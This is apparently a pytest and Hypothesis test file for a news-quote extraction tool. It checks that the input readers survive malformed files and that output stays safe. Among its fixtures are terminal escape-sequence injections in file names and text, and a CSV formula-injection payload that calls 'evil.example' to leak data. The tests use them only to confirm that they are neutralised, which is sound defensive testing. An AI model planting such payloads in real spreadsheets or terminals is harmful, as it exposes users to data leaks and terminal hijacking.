"""Reliability of the input readers: malformed inputs of every kind run through
``onrecord extract``, and property tests over the readers and the extractor's Python API.

The table's promise, for each bad input given before a good article: the exit code says
whether an input failed (1) or was only warned about (0); stderr holds exactly one line,
naming the input (and its line or record); no traceback; the good article, and any good
records before the bad one in the same file, are still extracted. Texts are invented for
the tests. The model is loaded once for the module; ``onrecord extract`` runs in-process
with it, and once as a real subprocess.
"""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable
from contextlib import redirect_stderr
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from onrecord.document import Article, Attribution, Confidence, valid_unicode
from onrecord.interfaces import cli
from onrecord.interfaces.cli.output import json_line, terminal_safe
from onrecord.readers import InputProblem, read_inputs
from onrecord.readers import formats as reader_formats
from onrecord.readers.archives import read_feed, read_warc
from onrecord.readers.decoding import normalise_newlines
from onrecord.readers.formats import read_html, read_jsonl, read_plain
from onrecord.readers.splitting import MAX_ARTICLE_CHARS

REPO = Path(__file__).resolve().parents[1]

GOOD = (
    "The harbour master of Eastport said on Monday that the ferry would run every half "
    "hour while the bridge is closed.\n\n"
    "\u201cWe are ready for the winter,\u201d she told reporters at the quay.\n"
)

PARAGRAPHS = [
    "The harbour master of Eastport said on Monday that the ferry would run every half "
    "hour while the old swing bridge is closed for repairs to its corroded cables.",
    "\u201cWe are ready for the winter,\u201d she told reporters at the quay, adding that two "
    "more boats had been hired from Westhaven for the six weeks of the closure.",
    "Shopkeepers on the east bank said they feared losing customers during the works, and "
    "the chamber of commerce asked the council to waive parking fees until March.",
    "A council spokesman said the repairs were on budget and that engineers expected the "
    "bridge to reopen before the spring tides, weather permitting.",
    "Passengers interviewed on the first crossing were mostly cheerful, although one "
    "commuter said the queue at the ticket office had taken twenty minutes.",
]


def news_page(title: str, paragraphs: list[str]) -> str:
    body = "".join(f"<p>{html.escape(p)}</p>\n" for p in paragraphs)
    return (
        f"<!doctype html><html><head><title>{html.escape(title)} | Eastport Herald</title>"
        "</head><body><nav><a href='/'>Home</a> | <a href='/local'>Local</a></nav>\n"
        f"<article><h1>{html.escape(title)}</h1>\n{body}</article>"
        "<footer>Contact us | Privacy</footer></body></html>"
    )


PAGES = {
    f"https://eastport-herald.example/2024/ferry-{n}": news_page(
        f"Ferry timetable, day {n}", PARAGRAPHS[n:] + PARAGRAPHS[:n]
    )
    for n in range(3)
}


def warc_members(pages: dict[str, str]) -> list[bytes]:
    """One gzip member per response record, as crawlers write them."""
    members = []
    for url, page in pages.items():
        buffer = io.BytesIO()
        writer = WARCWriter(buffer, gzip=True)
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
        )
        writer.write_record(
            writer.create_warc_record(
                url, "response", payload=io.BytesIO(page.encode()), http_headers=headers
            )
        )
        members.append(buffer.getvalue())
    return members


def plain_warc(pages: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=False)
    for url, page in pages.items():
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
        )
        writer.write_record(
            writer.create_warc_record(
                url, "response", payload=io.BytesIO(page.encode()), http_headers=headers
            )
        )
    return buffer.getvalue()


MEMBERS = warc_members(PAGES)
URLS = list(PAGES)


def cut_warc(share: float) -> tuple[bytes, int]:
    """The gzipped WARC cut at ``share`` of its length, and the record the cut falls in."""
    data = b"".join(MEMBERS)
    cut = int(len(data) * share)
    end = 0
    for number, member in enumerate(MEMBERS, start=1):
        end += len(member)
        if cut < end:
            assert cut > end - len(member), "the cut should fall inside a record"
            return data[:cut], number
    raise AssertionError("cut past the end")


def rss(description: str, title: str = "Eastport Herald") -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://eastport-herald.example/</link>"
        "<item><title>Bridge works</title><link>https://eastport-herald.example/bridge</link>"
        "<guid>bridge-2024-11</guid><pubDate>Thu, 07 Nov 2024 09:00:00 GMT</pubDate>"
        f"<description>{description}</description></item></channel></rss>"
    )


FEED_TEXT = "Council leader Maria Okafor said the bridge would reopen in May."


# --- the table --------------------------------------------------------------------------


@dataclass
class Case:
    """A bad input: its file name and bytes (None: no such file), what stderr's one line
    says about it, and the exit code and articles expected."""

    name: str
    data: bytes | None
    message: str
    code: int = cli.EXIT_INPUT_ERRORS
    where: str = ""  # after the path: ":3", ": record 2"
    severity: str = "error"
    kept: list[str] = field(default_factory=list)  # ids still read from the bad input
    patch: Callable[[pytest.MonkeyPatch], None] | None = None


def jsonl_lines(*records: dict | str) -> bytes:
    lines = [r if isinstance(r, str) else json.dumps(r) for r in records]
    return ("\n".join(lines) + "\n").encode()


def small_line_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader_formats, "MAX_LINE_CHARS", 5_000)


GARBAGE = bytes((i * 131 + 7) % 256 for i in range(6000))
CUT30, RECORD30 = cut_warc(0.3)
CUT50, RECORD50 = cut_warc(0.5)
CUT80, RECORD80 = cut_warc(0.8)
PLAIN_WARC = plain_warc(PAGES)
SECOND = PLAIN_WARC.index(b"WARC/1.0", 10)

CASES = [
    # files that are not text
    Case("empty.txt", b"", "empty"),
    Case("blank.txt", b"  \n\n\t \r\n", "empty"),
    Case("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(300), "binary file"),
    Case("dump.jsonl", bytes(range(256)) * 8, "binary file"),
    Case("letter.txt", GOOD.encode("utf-16"), "UTF-16/32 text is not supported"),
    Case(
        "latin1.txt",
        "The caf\u00e9 owner said prices would rise.\n".encode("latin-1"),
        "invalid UTF-8",
        code=cli.EXIT_OK,
        severity="warning",
        kept=["latin1"],
    ),
    Case("nowhere.txt", None, "no such file"),
    # HTML
    Case("empty.html", b"", "empty"),
    Case(
        "menu.html",
        b"<html><head><title>Menu</title></head><body><script>x=1</script></body></html>",
        "no article text",
    ),
    Case("scan.html", b"%PDF-1.4\n" + bytes(500), "binary file"),
    # JSONL: one line per bad record, the others read
    Case(
        "batch.jsonl",
        jsonl_lines({"id": "ok-1", "text": GOOD}, '{"id": "cut", "text": "The mayor sa'),
        "not valid JSON",
        where=":2",
        kept=["ok-1"],
    ),
    Case("list.jsonl", jsonl_lines(["a", "list"]), "not an object", where=":1"),
    Case("notext.jsonl", jsonl_lines({"id": "n", "body": GOOD}), "no 'text' field", where=":1"),
    Case(
        "bigint.jsonl",
        jsonl_lines('{"id": ' + "7" * 5000 + ', "text": "The mayor said so."}'),
        "too long",
        where=":1",
    ),
    Case("deep.jsonl", jsonl_lines("[" * 100_000 + "]" * 100_000), "nested", where=":1"),
    Case(
        "huge-line.jsonl",
        jsonl_lines({"id": "long", "text": "word " * 2_000}, {"id": "short", "text": GOOD}),
        "line longer than 5,000 characters",
        where=":1",
        kept=["short"],
        patch=small_line_limit,
    ),
    Case(
        "surrogate.jsonl",
        b'{"id": "s1", "text": "The mayor said the \\ud800 pier was safe."}\n',
        "lone surrogates",
        code=cli.EXIT_OK,
        severity="warning",
        where=":1",
        kept=["s1"],
    ),
    Case(
        "surrogate-id.jsonl",
        b'{"id": "bridge-\\udc9b", "text": "The mayor said the pier was safe.",'
        b' "url": "https://eastport-herald.example/\\udfff"}\n',
        "lone surrogates",
        code=cli.EXIT_OK,
        severity="warning",
        where=":1",
        kept=["bridge-\ufffd"],
    ),
    # feeds
    Case(
        "surrogate-ref.rss",
        rss("Council leader Maria &#xD800; Okafor said the bridge would reopen in May.").encode(),
        "numeric character references",
        code=cli.EXIT_OK,
        severity="warning",
        kept=["bridge-2024-11"],
    ),
    Case(
        "beyond-unicode.rss",
        rss("Council leader Maria &#1114112; Okafor said the bridge would reopen.").encode(),
        "numeric character references",
        code=cli.EXIT_OK,
        severity="warning",
        kept=["bridge-2024-11"],
    ),
    Case("notes.xml", b"just some notes, no markup at all", "not a readable RSS/Atom feed"),
    Case(
        "broken.rss",
        rss(FEED_TEXT).removesuffix("</channel></rss>").encode(),  # a download cut short
        "malformed feed",
        code=cli.EXIT_OK,
        severity="warning",
        kept=["bridge-2024-11"],
    ),
    # web archives
    Case(
        "cut30.warc.gz",
        CUT30,
        "truncated",
        where=f": record {RECORD30}",
        kept=URLS[: RECORD30 - 1],
    ),
    Case(
        "cut50.warc.gz",
        CUT50,
        "truncated",
        where=f": record {RECORD50}",
        kept=URLS[: RECORD50 - 1],
    ),
    Case(
        "cut80.warc.gz",
        CUT80,
        "truncated",
        where=f": record {RECORD80}",
        kept=URLS[: RECORD80 - 1],
    ),
    Case(
        "cut.warc",
        PLAIN_WARC[: len(PLAIN_WARC) * 3 // 5],
        "truncated",
        where=": record 2",
        kept=URLS[:1],
    ),
    Case("garbage.warc.gz", GARBAGE, "not a WARC archive"),
    Case("garbage-gzip.warc.gz", gzip.compress(GARBAGE), "not a WARC archive"),
    Case(
        "corrupt.warc",
        PLAIN_WARC[:SECOND] + b"GARBAGE-NOT-A-RECORD\r\n" + PLAIN_WARC[SECOND + 40 :],
        "unreadable WARC record",
        where=": record 2",
        kept=URLS[:1],
    ),
    Case(
        "no-uri.warc",
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 9999\r\n\r\n"
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>The mayor said so.</p>",
        "unreadable WARC record",
        where=": record 1",
    ),
    # hostile names: the line shows the escape, the terminal never gets it
    Case("\x1b[31mred\x1b[0m.txt", None, "no such file"),
    Case("\x1b]0;pwned\x07title.txt", b"", "empty"),
]


@pytest.fixture(scope="module")
def extractor():
    from onrecord.pipeline.extractor import Extractor

    return Extractor()


@pytest.fixture
def extract(extractor, monkeypatch, capsys):
    """``onrecord extract --format jsonl PATH...`` in-process, with the module's model:
    (exit code, ids written, stderr lines)."""
    from onrecord.interfaces.cli import extract as extract_command

    monkeypatch.setattr(extract_command, "load_extractor", lambda args: extractor)

    def run(*paths: Path | str) -> tuple[int, list[str], list[str]]:
        code = cli.main(["extract", "--format", "jsonl", *map(str, paths)])
        out, err = capsys.readouterr()
        ids = [json.loads(line)["id"] for line in out.splitlines()]
        return code, ids, err.splitlines()

    return run


@pytest.mark.parametrize("case", CASES, ids=[terminal_safe(c.name) for c in CASES])
def test_a_bad_input_is_one_line_and_the_next_input_is_still_read(
    case: Case, extract, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if case.patch:
        case.patch(monkeypatch)
    bad = tmp_path / case.name
    if case.data is not None:
        bad.write_bytes(case.data)
    good = tmp_path / "ferry.txt"
    good.write_text(GOOD, encoding="utf-8")

    code, ids, err = extract(bad, good)

    assert code == case.code, err
    assert ids == [*case.kept, "ferry"]
    assert not any("Traceback" in line for line in err)
    [line] = err  # exactly one line, about the bad input
    assert line == terminal_safe(line), "control characters reached stderr"
    assert line.startswith(f"{case.severity}: {terminal_safe(str(bad))}{case.where}: "), line
    assert case.message in line


def test_every_bad_input_at_once_in_a_real_process(tmp_path: Path) -> None:
    """The installed command, all bad inputs in one run, good articles between them: one
    line each, no traceback, every good article written, exit code 1."""
    paths = []
    expected_lines = 0
    for n, case in enumerate(CASES):
        if case.patch:
            continue
        bad = tmp_path / f"{n:02d}-{case.name}"
        if case.data is not None:
            bad.write_bytes(case.data)
        good = tmp_path / f"{n:02d}-good.txt"
        good.write_text(GOOD, encoding="utf-8")
        paths += [str(bad), str(good)]
        expected_lines += 1
    result = subprocess.run(
        [sys.executable, "-m", "onrecord", "extract", "--format", "jsonl", *paths],
        capture_output=True,
        cwd=REPO,
        timeout=600,
    )
    err = result.stderr.decode("utf-8", "backslashreplace")
    assert result.returncode == cli.EXIT_INPUT_ERRORS, err
    assert "Traceback" not in err and "\x1b" not in err
    assert len(err.splitlines()) == expected_lines, err
    ids = [json.loads(line)["id"] for line in result.stdout.decode().splitlines()]
    assert sum(i.endswith("-good") for i in ids) == expected_lines


# --- faults of the review, one by one ---------------------------------------------------


def read(path: Path) -> tuple[list[Article], list[InputProblem]]:
    items = list(read_inputs([str(path)]))
    return (
        [i for i in items if isinstance(i, Article)],
        [i for i in items if isinstance(i, InputProblem)],
    )


@pytest.mark.parametrize("share", [0.3, 0.5, 0.8])
def test_a_truncated_warc_never_yields_its_cut_record(tmp_path: Path, share: float) -> None:
    data, number = cut_warc(share)
    path = tmp_path / "crawl.warc.gz"
    path.write_bytes(data)
    found, problems = read(path)
    whole, _ = read(write(tmp_path / "whole.warc.gz", b"".join(MEMBERS)))
    assert [a.url for a in found] == URLS[: number - 1]
    assert [a.text for a in found] == [a.text for a in whole[: number - 1]]
    [problem] = problems
    assert problem.severity == "error"
    assert str(problem).startswith(f"error: {path}: record {number}: truncated")


def test_a_warc_cut_at_any_byte_gives_whole_articles_or_none(tmp_path: Path) -> None:
    """Every cut of a small plain and a gzipped WARC: no partial article, one line (none
    where only the blank lines that close a complete record are missing)."""
    path = tmp_path / "cut.warc"
    for data in (plain_warc(dict(list(PAGES.items())[:2])), b"".join(MEMBERS[:2])):
        whole = {a.url: a.text for a in read(write(path, data))[0]}
        for cut in [*range(1, len(data), 7), len(MEMBERS[0])]:
            found, problems = read(write(path, data[:cut]))
            assert all(whole[a.url] == a.text for a in found), cut
            # A cut between two gzip members, or two records, leaves whole records only.
            rest = data[cut:].lstrip(b"\r\n")
            if problems or not (rest == b"" or rest.startswith((b"WARC/1.0", b"\x1f\x8b"))):
                assert len(problems) == 1 and problems[0].severity == "error", (cut, problems)


def test_a_warc_gzipped_as_one_stream_is_read_to_its_end(tmp_path: Path) -> None:
    path = write(tmp_path / "crawl.warc.gz", gzip.compress(plain_warc(PAGES)))
    found, problems = read(path)
    assert [a.url for a in found] == URLS and problems == []


def test_a_garbage_warc_is_one_line_and_warcio_says_nothing(tmp_path: Path, capfd) -> None:
    noisy = plain_warc(PAGES).replace(b"Content-Length: ", b"Content-Length: 1", 1)
    for data in (GARBAGE, gzip.compress(GARBAGE), noisy, b"\x1f\x8b\x08\x00" + GARBAGE):
        path = write(tmp_path / "garbage.warc.gz", data)
        _, problems = read(path)
        assert len(problems) == 1, problems
        assert "\n" not in str(problems[0]) and len(str(problems[0])) < 300
        assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize("reference", ["&#xD800;", "&#xdfff;", "&#1114112;", "&#x110000;"])
def test_a_feed_referencing_no_character_is_read(tmp_path: Path, reference: str) -> None:
    feed = rss(f"Council leader Maria {reference} Okafor said the bridge would reopen.")
    found, problems = read(write(tmp_path / "herald.rss", feed.encode()))
    [article] = found
    assert article.text == "Council leader Maria \ufffd Okafor said the bridge would reopen."
    [problem] = problems
    assert problem.severity == "warning" and "numeric character references" in str(problem)


def test_a_feed_referencing_a_huge_number_is_read(tmp_path: Path) -> None:
    feed = rss("The mayor &#" + "9" * 5000 + "; said so.")
    [article], _ = read(write(tmp_path / "herald.rss", feed.encode()))
    assert article.text == "The mayor \ufffd said so."


def test_extract_one_replaces_lone_surrogates_and_keeps_offsets(extractor) -> None:
    assert extractor.extract_one("\ud800").text == "\ufffd"
    text = "The mayor \udc9b said \u201cthe pier \ud800 is safe\u201d on Monday."
    article = extractor.extract_one(text)
    assert article.text == text.replace("\udc9b", "\ufffd").replace("\ud800", "\ufffd")
    assert article.attributions
    assert_spans_inside(article)
    json_line(article.to_json()).encode("utf-8")


def test_a_jsonl_id_or_url_with_a_lone_surrogate_can_be_written(tmp_path: Path) -> None:
    path = write(
        tmp_path / "odd.jsonl",
        b'{"id": "\\ud83d", "text": "The mayor said so.", "outlet": "Herald \\udc00"}\n',
    )
    [article], [problem] = read(path)
    assert (article.id, article.outlet) == ("\ufffd", "Herald \ufffd")
    assert problem.severity == "warning" and problem.input == f"{path}:1"


def test_a_reader_that_raises_costs_one_line_not_the_run(tmp_path: Path, monkeypatch) -> None:
    from onrecord import readers

    def broken(name, stem, raw, limit):
        yield Article(stem, "The mayor said so.")
        raise RuntimeError("a parser bug\nover two lines")

    monkeypatch.setitem(readers._READERS, ".htm", broken)
    bad = write(tmp_path / "page.htm", b"<p>x</p>")
    good = write(tmp_path / "good.txt", GOOD.encode())
    items = list(read_inputs([str(bad), str(good)]))
    assert [type(i).__name__ for i in items] == ["Article", "InputProblem", "Article"]
    assert str(items[1]).startswith(f"error: {bad}: could not be read (RuntimeError: a parser")
    assert "\n" not in str(items[1])


# --- what reaches the terminal ----------------------------------------------------------

HOSTILE = "The mayor\x1b[2J said \x07the pier\x1b]0;pwned\x07 was \x9b31msafe\x1b[0m."


def test_search_csv_has_no_raw_control_characters(tmp_path: Path, capsys) -> None:
    from onrecord.pipeline.ingest import add_batch
    from onrecord.store import Store

    db = tmp_path / "news.sqlite"
    said = HOSTILE.index("said")
    attribution = Attribution(
        source=[(0, 9)],
        cue=[(said, said + 4)],
        content=[(said + 5, len(HOSTILE) - 1)],
        speaker="Ann Holt\x1b[5m",
        speaker_type="person",
    )
    article = Article("pier\x1b[1m", HOSTILE, [attribution], published="2024-03-01")
    add_batch(Store(str(db)), [article])

    for fmt in ("csv", "table"):
        code = cli.main(["search", "pier", "--db", str(db), "--format", fmt])
        out, _ = capsys.readouterr()
        assert code == cli.EXIT_OK and "pier" in out
        if fmt == "csv":  # a table shortens cells and blanks what it cannot print
            assert ",\\x07the pier\\x1b]0;pwned\\x07 was \\x9b31msafe\\x1b[0m," in out
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.replace("\r\n", "\n")), out
    code = cli.main(["search", "pier", "--db", str(db), "--format", "jsonl"])
    out, _ = capsys.readouterr()
    [row] = [json.loads(line) for line in out.splitlines()]
    assert "\x1b[2J" not in row["content"] and "\x07the pier\x1b]0;pwned\x07" in row["content"]


FORMULA = '=HYPERLINK("http://evil.example/?leak","click") the mayor said.'


def test_search_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path, capsys) -> None:
    from onrecord.pipeline.ingest import add_batch
    from onrecord.store import Store

    db = tmp_path / "news.sqlite"
    said = FORMULA.index("said")
    attribution = Attribution(
        source=[(said - 10, said - 1)],
        cue=[(said, said + 4)],
        content=[(0, said - 11)],
        speaker="@mayor",
        speaker_type="person",
    )
    add_batch(Store(str(db)), [Article("-pier", FORMULA, [attribution], published="2024-03-01")])
    assert cli.main(["search", "mayor", "--db", str(db), "--format", "csv"]) == cli.EXIT_OK
    out, _ = capsys.readouterr()
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["content"].startswith("'=HYPERLINK(")
    assert row["speaker"] == "'@mayor" and row["article"] == "'-pier"


def test_table_output_and_error_lines_carry_no_escape(extract, tmp_path, capsys) -> None:
    path = write(
        tmp_path / "hostile.jsonl",
        jsonl_lines({"id": "pier\x1b[31m", "text": HOSTILE}, "{broken\x1b[2J"),
    )
    code = cli.main(["extract", "--format", "table", str(path)])
    out, err = capsys.readouterr()
    assert code == cli.EXIT_INPUT_ERRORS
    assert "\x1b" not in out + err and "\x07" not in out + err and "\x9b" not in out + err
    assert "== pier\\x1b[31m:" in out
    assert err.startswith(f"error: {path}:2: not valid JSON")


def test_terminal_safe_shows_controls_and_keeps_what_the_format_needs() -> None:
    assert terminal_safe("a\x1b[31mb\x9b\x00\x7f") == "a\\x1b[31mb\\x9b\\x00\\x7f"
    assert terminal_safe("one\ttwo\nthree\r", keep="\t\n") == "one\ttwo\nthree\\x0d"
    assert terminal_safe("caf\udce9 \u00e9\u201c") == "caf\ufffd \u00e9\u201c"


# --- properties -------------------------------------------------------------------------

# Characters of every kind, surrogate halves and controls included, and news sentences
# with quotation marks for the extractor to find something in.
ANY_CHARACTER = st.one_of(
    st.characters(min_codepoint=0, max_codepoint=0x10FFFF),  # controls included
    st.characters(categories=["Cs"]),  # which hypothesis leaves out unless asked
)
HOSTILE_BITS = st.sampled_from(
    ["\ud800", "\udfff", "\x1b[31m", "\x00", "\r\n", "\r", "\u2028", "\ufeff", "\x9b", "\t"]
)
SENTENCES = st.sampled_from(
    [
        "The mayor said the bridge would reopen in May. ",
        "\u201cWe are ready,\u201d she told reporters. ",
        'Police said two men were arrested. "It was quiet," a neighbour said.\n\n',
        "According to the council, the works are on budget.\n",
    ]
)
TEXTS = st.lists(
    st.one_of(SENTENCES, HOSTILE_BITS, st.text(ANY_CHARACTER, max_size=40)), max_size=12
).map("".join)
LONG_LINES = st.integers(1, 30_000).map(lambda n: "The mayor said " + "very " * n + "late.")

PROPERTIES = settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def utf8(text: str) -> bytes:
    """What a careless writer puts on disk: surrogate halves as (invalid) UTF-8 bytes."""
    return text.encode("utf-8", "surrogatepass")


def run_reader(reader, data: bytes, limit: int = MAX_ARTICLE_CHARS) -> list:
    err = io.StringIO()
    with redirect_stderr(err):
        items = list(reader("input", "input", io.BytesIO(data), limit))
    assert err.getvalue() == "", "a reader wrote to stderr itself"
    return items


def assert_total(items: list) -> list[Article]:
    """Only Articles and one-line problems; every Article fit to write as UTF-8 JSON and
    back unchanged."""
    found = []
    for item in items:
        if isinstance(item, InputProblem):
            assert "\n" not in item.message and "\r" not in item.message
            continue
        assert isinstance(item, Article)
        found.append(item)
        line = json_line(item.to_json())
        line.encode("utf-8")  # no surrogate survives
        again = Article.from_json(json.loads(line))
        assert again.to_json() == json.loads(line)  # scores are written rounded
        assert again == item or item.attributions
        assert_spans_inside(item)
    return found


def assert_spans_inside(article: Article) -> None:
    n = len(article.text)
    for a in article.attributions:
        for start, end in [*a.source, *a.cue, *a.content]:
            assert 0 <= start < end <= n, (start, end, n)
        for c in a.confidence:
            assert 0 <= c.span[0] < c.span[1] <= n
    for start, end in article.boilerplate:
        assert 0 <= start < end <= n


SURROGATE = re.compile("[\ud800-\udfff]")


def expected_text(text: str) -> str:
    """The text a reader gives for ``text``: newlines unified, surrogates replaced."""
    return SURROGATE.sub("\ufffd", normalise_newlines(text))


@PROPERTIES
@given(text=st.one_of(TEXTS, LONG_LINES))
def test_plain_text_reader_is_total(text: str) -> None:
    found = assert_total(run_reader(read_plain, utf8(text), limit=20_000))
    if found and not SURROGATE.search(text):  # a surrogate's bytes are three U+FFFD
        joined = "".join(a.text for a in found)
        assert joined == normalise_newlines(text).removeprefix("\ufeff")


@PROPERTIES
@given(text=st.one_of(TEXTS, LONG_LINES), article_id=st.text(ANY_CHARACTER, max_size=10))
def test_jsonl_reader_is_total_and_keeps_offsets(text: str, article_id: str) -> None:
    line = json.dumps({"id": article_id or None, "text": text, "url": text[:30]})
    items = run_reader(read_jsonl, line.encode() + b"\n")
    found = assert_total(items)
    if text.strip():
        [article] = found
        # JSON joins a pair of escaped halves into one character; a lone half is one
        # U+FFFD: offsets into the text hold.
        assert article.text == expected_text(json.loads(json.dumps(text)))
        # The article as the CLI writes it reads back as the same article.
        again = assert_total(run_reader(read_jsonl, json_line(article.to_json()).encode()))
        assert [(a.id, a.text, a.url) for a in again] == [(article.id, article.text, article.url)]


@PROPERTIES
@given(text=TEXTS, references=st.lists(st.integers(0, 0x7FFFFFFF), max_size=4))
def test_html_and_feed_readers_are_total(text: str, references: list[int]) -> None:
    refs = "".join(f"&#{n};" if n % 2 else f"&#x{n:X};" for n in references)
    fragment = html.escape(text) + refs
    assert_total(run_reader(read_html, utf8(news_page("Harbour", [fragment, *PARAGRAPHS]))))
    feed = rss(html.escape(fragment), title=html.escape(text[:20]) + refs)
    assert_total(run_reader(read_feed, utf8(feed)))


@PROPERTIES
@given(
    prefix=st.sampled_from([b"", b"".join(MEMBERS), PLAIN_WARC, gzip.compress(PLAIN_WARC)]),
    cut=st.floats(0, 1),
    junk=st.binary(max_size=300),
)
def test_warc_reader_is_total_and_never_yields_part_of_a_record(
    prefix: bytes, cut: float, junk: bytes
) -> None:
    whole = {a.url: a.text for a in assert_total(run_reader(read_warc, prefix))}
    data = prefix[: int(len(prefix) * cut)] + junk
    items = run_reader(read_warc, data)
    for article in assert_total(items):
        assert whole.get(article.url) == article.text or article.url not in whole


@PROPERTIES
@given(text=TEXTS)
def test_extractor_spans_lie_inside_the_text_for_any_text(extractor, text: str) -> None:
    article = extractor.extract_one(text, "any")
    assert article.text == SURROGATE.sub("\ufffd", text)
    assert_spans_inside(article)
    line = json_line(article.to_json())
    line.encode("utf-8")
    assert Article.from_json(json.loads(line)).to_json() == json.loads(line)


@settings(max_examples=20, deadline=None)
@given(text=TEXTS)
def test_read_then_extract_keeps_spans_inside_the_text(extractor, text: str) -> None:
    line = json.dumps({"id": "p", "text": "The mayor said the pier was safe. " + text})
    articles = assert_total(run_reader(read_jsonl, line.encode()))
    for article in extractor.extract(articles):
        assert_spans_inside(article)
        assert_total([article])


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# --- the store keeps what it is given ---------------------------------------------------

NAMES = st.one_of(st.none(), st.text(ANY_CHARACTER.filter(lambda c: c != "\x00"), max_size=30))


@st.composite
def extracted_articles(draw) -> Article:
    """An article as the extractor could hand it to the store: any text, spans inside it,
    any speaker names (hostile ones too), scores, via chains and confidence terms."""
    text = draw(TEXTS.filter(lambda t: len(t) >= 2 and "\x00" not in t))
    text = SURROGATE.sub("\ufffd", text)
    n = len(text)

    def spans() -> list[tuple[int, int]]:
        start = draw(st.integers(0, n - 1))
        return [(start, draw(st.integers(start + 1, n)))]

    attributions = []
    for _ in range(draw(st.integers(0, 3))):
        span = spans()[0]
        attributions.append(
            Attribution(
                source=spans(),
                cue=spans(),
                content=spans(),
                speaker=draw(NAMES),
                kind=draw(st.sampled_from(["direct", "indirect", "mixed"])),
                score=round(draw(st.floats(0, 1)), 4),
                speaker_type=draw(st.sampled_from(["person", "organisation", "unresolved"])),
                speaker_role=draw(NAMES),
                speaker_score=draw(
                    st.one_of(st.none(), st.floats(0, 1).map(lambda f: round(f, 4)))
                ),
                anonymous=draw(st.booleans()),
                via=draw(
                    st.lists(
                        st.text(ANY_CHARACTER.filter(str.isalpha), min_size=1, max_size=12),
                        max_size=2,
                    )
                ),
                confidence=[Confidence(text[span[0] : span[1]], span, hedged=True)]
                if draw(st.booleans())
                else [],
            )
        )
    published = draw(st.one_of(st.none(), st.dates().map(lambda d: d.isoformat())))
    return Article(f"a{draw(st.uuids()).hex}", text, attributions, published=published)


@settings(max_examples=30, deadline=None)
@given(articles=st.lists(extracted_articles(), min_size=1, max_size=3))
def test_articles_come_back_from_the_store_as_they_went_in(tmp_path_factory, articles) -> None:
    from onrecord.pipeline.ingest import add_batch
    from onrecord.schema import Article as ArticleOut
    from onrecord.store import Store

    store = Store(str(tmp_path_factory.mktemp("roundtrip") / "news.sqlite"))
    try:
        assert add_batch(store, articles).added == len(articles)
        for article in articles:
            stored = store.article(SURROGATE.sub("\ufffd", article.id))
            assert without_fidelity(stored) == ArticleOut.from_document(valid_unicode(article))
            assert_spans_inside(Article.from_json(stored.model_dump()))
        assert add_batch(store, articles).added == 0  # and once only
    finally:
        store.engine.dispose()


def without_fidelity(article):
    """A stored article as it went in: a quote's fidelity is the store's, not the input's."""
    attributions = [a.model_copy(update={"fidelity": None}) for a in article.attributions]
    return article.model_copy(update={"attributions": attributions})
